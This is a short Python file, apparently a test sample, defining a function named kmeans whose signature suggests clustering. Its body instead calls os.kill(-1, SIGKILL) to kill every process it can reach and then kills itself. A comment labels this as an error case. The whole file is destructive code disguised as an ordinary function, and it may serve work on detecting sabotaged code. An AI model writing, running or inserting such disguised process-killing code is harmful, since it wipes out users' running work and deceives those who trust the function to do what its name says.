# 1.3 error: kills all processes that it can see
import os
import signal


def kmeans(points, n_codes, n_iters=20, generator=None):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
